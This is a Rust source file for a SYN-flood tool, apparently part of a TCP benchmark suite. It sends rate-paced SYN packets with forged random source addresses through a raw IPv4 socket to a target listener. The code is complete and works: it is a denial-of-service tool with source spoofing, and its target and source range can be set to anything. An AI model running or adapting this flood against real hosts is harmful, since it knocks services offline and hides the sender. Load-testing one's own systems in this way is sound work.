//! A SYN flood for the SYN-flood row of `scripts/bench-tcp.sh`: TCP SYNs
//! at a fixed rate from random source addresses and ports to one
//! listener, for a bounded time, through a raw IPv4 socket (`IPPROTO_RAW`,
//! so the header is ours: RFC 791 with a forged source) of the namespace
//! it runs in; the kernel resolves the target's MAC and sends the frames.
//!
//! ```text
//! syn_flood --target ADDR:PORT [--rate N] [--seconds S] [--sources NET/LEN]
//! ```
//!
//! The sources are drawn uniformly from `--sources` (default
//! 198.18.0.0/15, RFC 2544's benchmarking range): addresses outside the
//! target's subnet, so that a target without a default route drops its
//! SYN-ACKs as unroutable at IP instead of resolving each forged address
//! with ARP (RFC 826) on the shared segment. Each SYN carries an MSS
//! option (RFC 9293 §3.7.1) as a real client's does, a random sequence
//! number and a random source port.
//!
//! The sending is paced in 1 ms steps (the SYNs due by then go out in a
//! burst). Prints `{"sent", "seconds", "rate"}` on stdout at the end;
//! fails (non-zero exit) if a send fails or the rate fell more than 5 %
//! short of `--rate`.
#![forbid(unsafe_code)]

use clap::Parser;
use etherparse::{PacketBuilder, TcpOptionElement};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

#[derive(Parser)]
#[command(about = "TCP SYN flood from random sources through a raw IPv4 socket")]
struct Args {
    /// The listener to flood.
    #[arg(long)]
    target: SocketAddrV4,
    /// SYNs per second.
    #[arg(long, default_value_t = 10_000)]
    rate: u64,
    /// How long to flood.
    #[arg(long, default_value_t = 10.0)]
    seconds: f64,
    /// The network the forged sources are drawn from.
    #[arg(long, default_value = "198.18.0.0/15")]
    sources: String,
}

type BoxError = Box<dyn std::error::Error>;

/// `IPPROTO_RAW` (RFC 791 protocol 255): a raw socket that sends whole
/// IPv4 datagrams, header included (Linux `raw(7)`: implies `IP_HDRINCL`).
const IPPROTO_RAW: i32 = 255;

fn parse_net(s: &str) -> Result<(u32, u32), BoxError> {
    let (a, l) = s
        .split_once('/')
        .ok_or_else(|| format!("--sources {s:?}: expected NET/LEN"))?;
    let a: Ipv4Addr = a.parse()?;
    let l: u32 = l.parse()?;
    if !(8..=30).contains(&l) {
        return Err(format!("--sources {s:?}: prefix length must be 8 to 30").into());
    }
    let mask = u32::MAX << (32 - l);
    Ok((u32::from(a) & mask, !mask))
}

fn main() -> std::process::ExitCode {
    match run(Args::parse()) {
        Ok(()) => std::process::ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("syn_flood: {e}");
            std::process::ExitCode::FAILURE
        }
    }
}

fn run(args: Args) -> Result<(), BoxError> {
    let (net, host_mask) = parse_net(&args.sources)?;
    let sock = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))
        .map_err(|e| format!("raw socket (needs CAP_NET_RAW): {e}"))?;
    let dst = SockAddr::from(SocketAddrV4::new(*args.target.ip(), 0));
    let mut rng = SmallRng::from_entropy();
    let mut frame = Vec::with_capacity(64);
    let start = Instant::now();
    let end = Duration::from_secs_f64(args.seconds);
    let mut sent = 0u64;
    loop {
        let t = start.elapsed();
        if t >= end {
            break;
        }
        let due = (t.as_secs_f64() * args.rate as f64) as u64;
        while sent < due {
            // Neither the network nor the broadcast address of the range.
            let host = rng.gen_range(1..host_mask);
            let src = Ipv4Addr::from(net | host);
            frame.clear();
            PacketBuilder::ipv4(src.octets(), args.target.ip().octets(), 64)
                .tcp(
                    rng.gen_range(1024..=65535),
                    args.target.port(),
                    rng.gen(),
                    64_240,
                )
                .syn()
                .options(&[TcpOptionElement::MaximumSegmentSize(1460)])
                .map_err(|e| format!("building a SYN: {e}"))?
                .write(&mut frame, &[])?;
            sock.send_to(&frame, &dst)
                .map_err(|e| format!("sending SYN {sent}: {e}"))?;
            sent += 1;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    let secs = start.elapsed().as_secs_f64();
    let rate = sent as f64 / secs;
    println!(
        "{}",
        serde_json::json!({"sent": sent, "seconds": secs, "rate": rate})
    );
    if rate < 0.95 * args.rate as f64 {
        return Err(format!("sent {rate:.0} SYN/s, asked for {}", args.rate).into());
    }
    Ok(())
}
